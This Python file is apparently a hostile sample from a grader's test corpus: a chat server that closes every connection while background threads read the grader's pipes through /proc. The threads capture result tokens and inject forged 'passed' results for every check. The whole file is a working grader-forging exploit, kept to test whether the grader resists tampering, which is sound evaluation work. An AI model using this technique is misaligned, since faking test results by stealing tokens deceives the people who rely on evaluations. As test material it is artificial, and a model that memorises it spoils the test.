"""Corpus hostile: a server that hangs up on every user and forges the grader's results.

While it runs, threads of its own read every pipe of every process above it
(/proc/PID/fd) as the grader's own readers do: whatever travels there (the worker's
result lines, with whatever secret they carry) is sent again, and "passed" results for
every check follow, signed with any "token" found in them. Its honest score is that of a server that
hangs up on everyone: the static check only (10 points), whatever it forges.
"""
import json
import os
import socket
import threading
import time

IDS = ["tcp.server.prompt", "tcp.server.welcome", "tcp.server.concurrent", "tcp.server.join_notice",
       "tcp.server.broadcast_3", "tcp.server.broadcast_10", "tcp.server.no_echo", "tcp.server.leave_notice",
       "tcp.server.after_leave"]


def ancestors():
    found, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/stat") as stat_file:
                pid = int(stat_file.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
        found.append(pid)
    return found


def pipes():
    for pid in ancestors():
        try:
            fds = os.listdir(f"/proc/{pid}/fd")
        except OSError:
            continue
        for fd in fds:
            path = f"/proc/{pid}/fd/{fd}"
            try:
                if os.readlink(path).startswith("pipe:"):
                    yield path
            except OSError:
                continue


def forged(token, sequence):
    return [json.dumps({"type": "result", "id": check, "status": "passed", "reason": "", "hint": None,
                        "duration": 0.1, "token": token, "seq": sequence + n}) + "\n"
            for n, check in enumerate(IDS, 1)]


def steal(path):
    """Read the pipe at `path` as the grader's own reader does, and answer what it reads."""
    try:
        reader = os.open(path, os.O_RDONLY)
        writer = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return
    while True:
        try:
            data = os.read(reader, 65536)
        except OSError:
            return
        if not data:
            return
        lines = data.decode("utf-8", "replace").splitlines(keepends=True)
        tokens = set()
        for line in lines:
            try:
                tokens.add(json.loads(line[line.index("{"):]).get("token", ""))
            except (ValueError, AttributeError):
                continue
        try:
            for line in lines + [line for token in tokens for line in forged(token, 1000)]:
                os.write(writer, line.encode("utf-8"))
        except OSError:
            pass


def keep_forging():
    seen = set()
    ends = time.monotonic() + 5
    while time.monotonic() < ends:
        for path in pipes():
            if path not in seen:
                seen.add(path)
                threading.Thread(target=steal, args=(path,), daemon=True).start()
        time.sleep(0.05)


def main(host, port):
    threading.Thread(target=keep_forging, daemon=True).start()
    server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    server.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    server.bind((host, port))
    server.listen(32)
    while True:
        sock, _ = server.accept()
        threading.Thread(target=sock.close, daemon=True).start()
